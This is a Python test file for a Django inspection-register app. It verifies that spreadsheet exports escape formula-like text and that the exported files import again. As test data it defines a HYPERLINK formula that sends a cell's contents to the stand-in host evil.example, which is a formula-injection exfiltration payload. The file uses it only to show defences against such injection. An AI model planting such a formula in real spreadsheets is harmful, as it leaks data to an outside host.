"""Every .xlsx the system writes neutralises formula-like text; its exports read back."""

import io
import re
from pathlib import Path

from django.urls import reverse
from openpyxl import Workbook, load_workbook

from lanhmanh.core.xlsx_export import neutral, unescape, workbook_bytes
from lanhmanh.inspections import importing
from lanhmanh.inspections.models import Establishment

LANHMANH = Path(__file__).resolve().parent.parent.parent / "lanhmanh"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_formula_like_text_is_escaped_and_read_back():
    for text in ("=1+1", "+84 912", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutral(text) == "'" + text
        assert unescape(neutral(text)) == text
    assert neutral("Karaoke") == "Karaoke"
    assert neutral(12) == 12
    assert unescape("'quoted on purpose") == "'quoted on purpose"


def test_an_ordinary_workbook_never_holds_a_formula():
    book = Workbook()
    book.active.append(["=1+1", "@x", "text", 3])
    cells = list(_cells(workbook_bytes(book)))
    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]
    assert [c.value for c in cells[:2]] == ["'=1+1", "'@x"]


def test_the_register_export_carries_a_formula_name_as_text_and_imports_again(
    world, records, client_for
):
    records.sao_dem.name = HYPERLINK
    records.sao_dem.owner_name = "+84 912 345 678"
    records.sao_dem.notes = "@SUM(A1:A9)"
    records.sao_dem.save()
    client = client_for(world.th_coordinator)

    content = client.get(reverse("inspections:establishment_export")).content

    cells = list(_cells(content))
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + HYPERLINK in [c.value for c in cells]
    # Read back into an empty register: the same names, no column or row errors.
    Establishment.objects.filter(pk__in=[e.pk for e in (records.sao_dem,)]).delete()
    import_ = importing.establishments_import_parse(
        content=content, file_name="x.xlsx", unit=world.thanh_hoa, by=world.th_coordinator
    )
    assert import_.file_errors == []
    fresh = [r for r in import_.rows if not r["errors"]]
    assert [r["data"]["name"] for r in fresh] == [HYPERLINK]
    assert fresh[0]["data"]["owner_name"] == "+84 912 345 678"
    assert fresh[0]["data"]["notes"] == "@SUM(A1:A9)"


def test_every_workbook_the_system_writes_goes_through_the_helper():
    """A new export that saves its workbook itself would skip the neutralising."""
    offenders = []
    for path in LANHMANH.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "xlsx_export.py" or "Workbook(" not in text:
            continue
        if "workbook_bytes(" not in text or re.search(r"\b(wb|book|workbook)\.save\(", text):
            offenders.append(str(path.relative_to(LANHMANH)))
    assert offenders == []
